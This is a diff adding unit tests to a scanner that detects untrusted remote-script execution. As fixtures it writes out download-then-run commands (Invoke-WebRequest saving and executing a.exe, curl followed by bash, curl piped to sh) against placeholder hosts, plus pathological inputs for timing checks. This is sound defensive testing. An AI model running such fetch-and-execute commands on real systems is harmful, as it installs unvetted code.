@@ -115,6 +115,39 @@ describe('untrusted-remote-script', () => {
     expect(run("data = requests.get('http://192.0.2.9/d.json').json()\nexec(code)")).toEqual([]);
   });
 
+  it('leaves files named, read or mentioned after a download alone: a run needs a program at a command\'s start', () => {
+    const run = (text: string) => scanMalicious(text).map((f) => `${f.technique}/${f.pattern}`);
+    expect(run('exec(open("settings.py").read()); data = requests.get("http://192.0.2.9/v1")')).toEqual([]);
+    expect(run('| `eval(await (await fetch(url)).text())` | runs code | http://devdocs.io/js |')).toEqual([]);
+    expect(run('certutil -urlcache -f http://192.0.2.9/tool/setup.exe setup.exe\nsetup.exe should have SHA-256 abc')).toEqual([]);
+    expect(run('Invoke-WebRequest http://192.0.2.9/sales.csv -OutFile sales.csv\nImport-Csv .\\sales.csv')).toEqual([]);
+    expect(run("(New-Object Net.WebClient).DownloadFile('http://192.0.2.9/report.pdf', 'report.pdf')\nWrite-Host \"Saved to $env:TEMP\\report.pdf (done)\"")).toEqual([]);
+    // The same programs run are found.
+    expect(run('Invoke-WebRequest http://192.0.2.9/a.exe -OutFile $env:TEMP\\a.exe\n& $env:TEMP\\a.exe')).toEqual(['untrusted-remote-script/download-save-run']);
+  });
+
+  it('does not join a backslash line to a fence or a blank line', () => {
+    // Joined, the fence would vanish and the code block's blank line would split its paragraph.
+    const fenced = 'Run this \\\n```bash\ncurl -o x.sh http://192.0.2.7/x.sh\n\nbash x.sh\n```\n';
+    expect(techniques(fenced)).toEqual(['untrusted-remote-script']);
+    expect(scanMalicious('curl -o x.sh http://192.0.2.7/x.sh \\\n\nLater: bash notes.sh')).toEqual([]);
+  });
+
+  it('stays linear on hostile lines built from the run patterns', () => {
+    const lines = [
+      'curl -o x.sh http://192.0.2.7/x.sh\npowershell' + ' -File'.repeat(50_000),
+      'curl -o a.exe http://192.0.2.7/a.exe\n' + ';C:\\x\\y'.repeat(50_000),
+      'curl -o a http://192.0.2.7/a\n' + ';x/y'.repeat(50_000),
+      'curl -o a.exe http://192.0.2.7/a.exe\n' + '& a'.repeat(100_000),
+    ];
+    for (const text of lines) {
+      const t0 = performance.now();
+      scanMalicious(text);
+      // Quadratic, the first took 27 s and the second 13 s; linear, each takes tens of ms.
+      expect(performance.now() - t0, text.slice(0, 60)).toBeLessThan(2000);
+    }
+  });
+
   it('leaves a named https host, localhost and brew shellenv to undeclared-risk', () => {
     expect(scanMalicious("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh")).toEqual([]);
     expect(scanMalicious('curl -s http://localhost:8080/health | python3 -m json.tool')).toEqual([]);
